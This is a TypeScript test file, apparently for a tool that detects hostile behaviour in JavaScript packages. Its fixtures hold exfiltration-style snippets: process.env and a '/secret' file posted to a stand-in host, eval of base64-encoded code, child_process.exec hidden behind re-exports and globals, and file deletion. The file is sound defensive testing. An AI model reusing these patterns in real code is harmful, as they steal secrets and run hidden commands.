import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf, flowLines, lineOf } from '../../test/behave.ts';

const POST = `fetch('https://a.invalid', { method: 'POST', body: b })`;
const FS = `const fs = require('fs');`;
const SENT = 'process.env → fetch as content';

/** Where the method is that sends, and the files. */
const METHODS: readonly (readonly [string, Readonly<Record<string, string>>])[] = [
  [
    'of a class that is the module',
    { 'index.js': `const C = require('./c'); new C('u').post(process.env)`, 'c.js': `module.exports = class { post(b) { ${POST} } }` },
  ],
  [
    'of a named class',
    {
      'index.js': `const { C } = require('./c'); const c = new C(); c.post(process.env)`,
      'c.js': `exports.C = class { post(b) { ${POST} } }`,
    },
  ],
  [
    'of an object of a class',
    { 'index.js': `require('./c').post(process.env)`, 'c.js': `class C { post(b) { ${POST} } } module.exports = new C()` },
  ],
  [
    'of an object',
    { 'index.js': `const { api } = require('./c'); api.post(process.env)`, 'c.js': `exports.api = { post(b) { ${POST} } }` },
  ],
  [
    'of an object that a class keeps of itself',
    {
      'index.js': `const { C } = require('./c'); C.instance.post(process.env)`,
      'c.js': `class C { post(b) { ${POST} } } exports.C = C; C.instance = new C()`,
    },
  ],
  [
    'of an object that a class keeps of itself in a field',
    {
      'index.js': `const { C } = require('./c'); C.instance.post(process.env)`,
      'c.js': `exports.C = class C { static instance = new C(); post(b) { ${POST} } }`,
    },
  ],
  [
    'of what a factory makes',
    { 'index.js': `require('./c')('u').post(process.env)`, 'c.js': `module.exports = u => ({ post(b) { ${POST} } })` },
  ],
  [
    'of a class that a factory makes one of',
    { 'index.js': `require('./c').make().post(process.env)`, 'c.js': `class C { post(b) { ${POST} } } exports.make = () => new C()` },
  ],
  [
    'that is inherited',
    {
      'index.js': `const B = require('./c'); class A extends B { go() { this.post(process.env) } } new A().go()`,
      'c.js': `module.exports = class { post(b) { ${POST} } }`,
    },
  ],
  [
    'that is called by super',
    {
      'index.js': `const { B } = require('./c'); class A extends B { go() { super.post(process.env) } } new A().go()`,
      'c.js': `exports.B = class { post(b) { ${POST} } }`,
    },
  ],
  [
    'that gives the data',
    {
      'index.js': `const R = require('./c'); const b = new R().read(); ${POST}`,
      'c.js': `module.exports = class { read() { return process.env } }`,
    },
  ],
  [
    'that another file chooses by name',
    { 'index.js': `const steps = require('./c'); steps[process.argv[2]](process.env)`, 'c.js': `exports.post = b => ${POST}` },
  ],
];

describe('a method of another file', () => {
  for (const [where, files] of METHODS) {
    it(where, () => {
      const found = flowLines(files);
      assert.ok(found.includes(SENT), found.join('\n'));
    });
  }

  it('is the constructor of a class without one', () => {
    const { effects } = behaviourOf({
      'index.js': `const B = require('./c'); class A extends B {} new A()`,
      'c.js': `module.exports = class { constructor() { fetch('https://a.invalid') } }`,
    });
    assert.deepEqual(effects.map(lineOf), ['import connects fetch(https://a.invalid)']);
  });

  it('is no more than offered where nobody calls it', () => {
    const { effects } = behaviourOf({ 'index.js': `exports.C = require('./c')`, 'c.js': `module.exports = class { post(b) { ${POST} } }` });
    assert.deepEqual(effects.map(lineOf), ['call connects fetch(https://a.invalid)']);
  });

  it('is not what a test calls it with', () => {
    const { effects } = behaviourOf({
      'index.js': `exports.read = path => require('fs').readFileSync(path)`,
      'test/a.js': `require('../index.js').read('id_rsa')`,
    });
    assert.deepEqual(
      effects.filter(effect => effect.target.includes('id_rsa')),
      [],
    );
  });
});

/** What another file holds or passes, the files, and what is deleted. */
const CONSTANTS: readonly (readonly [string, Readonly<Record<string, string>>, string])[] = [
  [
    'a list that a loop goes over',
    { 'index.js': `${FS} for (const name of require('./a').names) fs.rmSync('/opt/' + name)`, 'a.js': `exports.names = ['x', 'y']` },
    '/opt/x | /opt/y',
  ],
  [
    'two members of one object',
    {
      'index.js': `import c from './a.js'; import fs from 'fs'; fs.rmSync(c.dir + '/' + c.file)`,
      'a.js': `export default { dir: '/opt', file: 'x' }`,
    },
    '/opt/x',
  ],
  [
    'what a generator yields',
    {
      'index.js': `${FS} for (const x of require('./a').all()) fs.rmSync(x + '/c')`,
      'a.js': `exports.all = function* () { yield '/a'; yield '/b' }`,
    },
    '/a/c | /b/c',
  ],
  [
    'settings that a class is made with',
    {
      'index.js': `const { Cleaner } = require('./b'); new Cleaner(require('./a')).run()`,
      'a.js': `module.exports = { dirs: ['/a', '/b'], file: 'c' }`,
      'b.js': `${FS} class Cleaner { constructor(options) { this.options = options } run() { for (const dir of this.options.dirs) fs.rmSync(dir + '/' + this.options.file) } } exports.Cleaner = Cleaner`,
    },
    '/a/c | /b/c',
  ],
  [
    'settings that are handed on',
    {
      'index.js': `require('./b').start({ dir: '/a', file: 'c' })`,
      'b.js': `exports.start = options => require('./d').run(options)`,
      'd.js': `${FS} exports.run = ({ dir, file }) => fs.rmSync(dir + '/' + file)`,
    },
    '/a/c',
  ],
  [
    'texts that are decoded one by one',
    {
      'index.js': `${FS} const C = require('./a'); const d = s => Buffer.from(s, 'hex').toString(); d(C.b); fs.rmSync(d(C.a))`,
      'a.js': `module.exports = { a: '2f78', b: '2f79' }`,
    },
    '/x',
  ],
];

describe('constants of other files', () => {
  for (const [what, files, target] of CONSTANTS)
    it(what, () => {
      const deleted = behaviourOf(files).effects.filter(effect => effect.kind === 'deletes');
      assert.deepEqual([...new Set(deleted.map(effect => effect.target))], [target]);
    });
  it('code that another file holds encoded is read as code', () => {
    const { effects } = behaviourOf({
      'index.js': `const C = require('./a'); eval(Buffer.from(C.text, 'base64').toString())`,
      'a.js': `exports.text = '${Buffer.from(`fetch('https://a.invalid')`).toString('base64')}'`,
    });
    assert.deepEqual(effects.map(lineOf), [
      `import evaluates eval(fetch('https://a.invalid'))`,
      'import connects fetch(https://a.invalid)',
    ]);
  });
  it('what lies beside one file is told from where another lies', () => {
    const { effects } = behaviourOf({
      'index.js': `${FS} for (const x of require('./lib/a').all) fs.rmSync(x)`,
      'lib/a.js': `exports.all = [__dirname + '/x', __dirname + '/y']`,
    });
    assert.deepEqual(
      effects.map(effect => effect.target),
      ['<here>/lib/x | <here>/lib/y'],
    );
  });
});

const RUN = `cp.exec('a b')`;

/** How a file hands on what is not its own, and the files. */
const LENT: readonly (readonly [string, Readonly<Record<string, string | object>>])[] = [
  ['as a member', { 'index.js': `const { cp } = require('./a'); ${RUN}`, 'a.js': `exports.cp = require('child_process')` }],
  ['in an object', { 'index.js': `const { cp } = require('./a'); ${RUN}`, 'a.js': `module.exports = { cp: require('child_process') }` }],
  ['as itself', { 'index.js': `const cp = require('./a'); ${RUN}`, 'a.js': `module.exports = require('child_process')` }],
  [
    'one function of it',
    { 'index.js': `require('./a').run('a b')`, 'a.js': `const { exec } = require('child_process'); module.exports = { run: exec }` },
  ],
  ['deep in an object', { 'index.js': `require('./a').of.cp.exec('a b')`, 'a.js': `exports.of = { cp: require('child_process') }` }],
  [
    'by a getter',
    { 'index.js': `require('./a').cp.exec('a b')`, 'a.js': `module.exports = { get cp() { return require('child_process') } }` },
  ],
  ['all of it', { 'index.js': `import { exec } from './a.js'; exec('a b')`, 'a.js': `export * from 'node:child_process'` }],
  [
    'over a third file',
    {
      'index.js': `require('./a').exec('a b')`,
      'a.js': `module.exports = require('./b')`,
      'b.js': `module.exports = require('child_process')`,
    },
  ],
];

/** What a call may mean, and the files. */
const CHOSEN: readonly (readonly [string, Readonly<Record<string, string>>])[] = [
  [
    'any of a table of classes',
    {
      'index.js': `const c = require('./c'); const Chosen = { win32: c.A, linux: c.B }[process.platform]; new Chosen().go()`,
      'c.js': `class Base { go() { this.run() } } class A extends Base { run() {} } class B extends Base { run() { require('child_process').exec('a b') } } Object.assign(exports, { A, B })`,
    },
  ],
  [
    'the second of a list of files',
    {
      'index.js': `[require('./a'), require('./b')].forEach(step => step())`,
      'a.js': `module.exports = () => {}`,
      'b.js': `module.exports = () => require('child_process').exec('a b')`,
    },
  ],
  [
    'the second of a list of files that are loaded by name',
    {
      'index.js': `for (const step of ['a', 'b'].map(name => require('./' + name))) step.run()`,
      'a.js': `exports.run = () => {}`,
      'b.js': `exports.run = () => require('child_process').exec('a b')`,
    },
  ],
];

describe('what is chosen while it runs', () => {
  for (const [how, files] of CHOSEN) {
    it(`${how} is called`, () => {
      const { effects } = behaviourOf(files);
      assert.ok(effects.map(lineOf).includes('import spawns child_process.exec(a b)'), effects.map(lineOf).join('\n'));
    });
  }
});

describe('what a file hands on', () => {
  for (const [how, files] of LENT) {
    it(`${how} is what it is where it is used`, () => {
      const { effects } = behaviourOf(files);
      assert.deepEqual(effects.map(lineOf), ['import spawns child_process.exec(a b)']);
    });
  }

  it('is known where it is a global', () => {
    const { effects } = behaviourOf({ 'index.js': `require('./a').go('1 + 1')`, 'a.js': `exports.go = eval` });
    assert.deepEqual(effects.map(lineOf), ['import evaluates eval(1 + 1)']);
  });

  it('in a circle is nothing', () => {
    const files = {
      'index.js': `require('./a').exec('a b')`,
      'a.js': `module.exports = require('./b')`,
      'b.js': `module.exports = require('./a')`,
    };
    assert.deepEqual(behaviourOf(files).effects, []);
  });
});

/** How a file puts something on the global object, and another one takes it from there. */
const SHARED: readonly (readonly [string, Readonly<Record<string, string>>])[] = [
  ['a module', { 'index.js': `global.cp = require('child_process'); require('./lib/b')`, 'lib/b.js': RUN }],
  [
    'a table of modules',
    { 'index.js': `globalThis.of = { cp: require('child_process') }; require('./b')`, 'b.js': `const { cp } = globalThis.of; ${RUN}` },
  ],
  ['one function', { 'index.js': `global.run = require('child_process').exec; require('./b')`, 'b.js': `globalThis.run('a b')` }],
  ['a function of its own', { 'index.js': `global.go = a => require('child_process').exec(a); require('./b')`, 'b.js': `go('a b')` }],
];

describe('by the global object', () => {
  for (const [what, files] of SHARED) {
    it(`${what} is shared`, () => {
      const { effects } = behaviourOf(files);
      assert.deepEqual(effects.map(lineOf), ['import spawns child_process.exec(a b)']);
    });
  }

  it('a name of the file’s own is not taken for one that another file shares', () => {
    const { effects } = behaviourOf({
      'index.js': `global.cp = require('child_process'); require('./b')`,
      'b.js': `const cp = { exec() {} }; ${RUN}`,
    });
    assert.deepEqual(effects, []);
  });
});

describe('functions of a table of another file', () => {
  const layers = `const layers = Object.create(null); layers.a = () => ({}); layers.m = () => ({ m: process.env }); module.exports = layers;`;
  for (const code of ['map(layer => layer())', 'reduce((all, layer) => ({ ...all, ...layer() }), {})'])
    it(`are called where all are gone through: ${code}`, () =>
      assert.deepEqual(flowLines({ 'index.js': `const b = Object.values(require('./layers')).${code}; ${POST}`, 'layers.js': layers }), [
        SENT,
      ]));
});

describe('one step after the other', () => {
  const steps = {
    'a.js': `module.exports = () => require('fs').promises.readFile('/secret', 'utf8')`,
    'b.js': `module.exports = async t => Buffer.from(t).toString('base64')`,
    'c.js': `module.exports = b => ${POST}`,
  };
  const all = `const a = require('./a'), b = require('./b'), c = require('./c');`;
  for (const code of [
    `${all} a().then(b).then(c)`,
    `${all} Promise.resolve().then(a).then(b).then(c)`,
    `${all} [a, b, c].reduce((before, step) => before.then(step), Promise.resolve())`,
    `['a', 'b', 'c'].map(name => require('./' + name)).reduce((before, step) => before.then(step), Promise.resolve())`,
  ]) {
    it(`hands on what it has: ${code.slice(-60)}`, () =>
      assert.deepEqual(flowLines({ 'index.js': code, ...steps }), ['fs.promises.readFile → fetch as content']));
  }

  it('is not taken for any order', () =>
    assert.deepEqual(
      flowLines({ 'index.js': `${all} [c, b, a].reduce((before, step) => before.then(step), Promise.resolve())`, ...steps }),
      [],
    ));

  it('tells where the next one looks', () => {
    const lines = behaviourOf({
      'index.js': `['where', 'look'].map(name => require('./' + name)).reduce((before, step) => before.then(step), Promise.resolve())`,
      'where.js': `const { join } = require('path'); module.exports = async () => Object.values(require('./names')).map(name => join(require('os').homedir(), '.config', name, 'x'))`,
      'names.js': `module.exports = { one: 'One', two: 'Two' }`,
      'look.js': `module.exports = async folders => { for (const folder of folders) require('fs').readdirSync(folder); }`,
    }).effects.map(lineOf);
    assert.ok(lines.includes('import lists files fs.readdirSync(<home>/.config/One/x | <home>/.config/Two/x)'), lines.join('\n'));
  });
});

describe('a text that is made', () => {
  for (const [how, code] of [
    ['by a function that joins its pieces', `const j = (...a) => a.join(''); fetch(j('https://', 'b', '.in', 'valid')); j('x', 'y')`],
    [
      'as the message of an error',
      `class E extends TypeError { constructor(c) { super('https://b.invalid'); this.c = c; } } fetch(new E(1).message)`,
    ],
  ] as const)
    it(`${how} is known`, () =>
      assert.match(behaviourOf({ 'index.js': code }).effects.map(lineOf).join(), /fetch\(https:\/\/b\.invalid\)/));
});
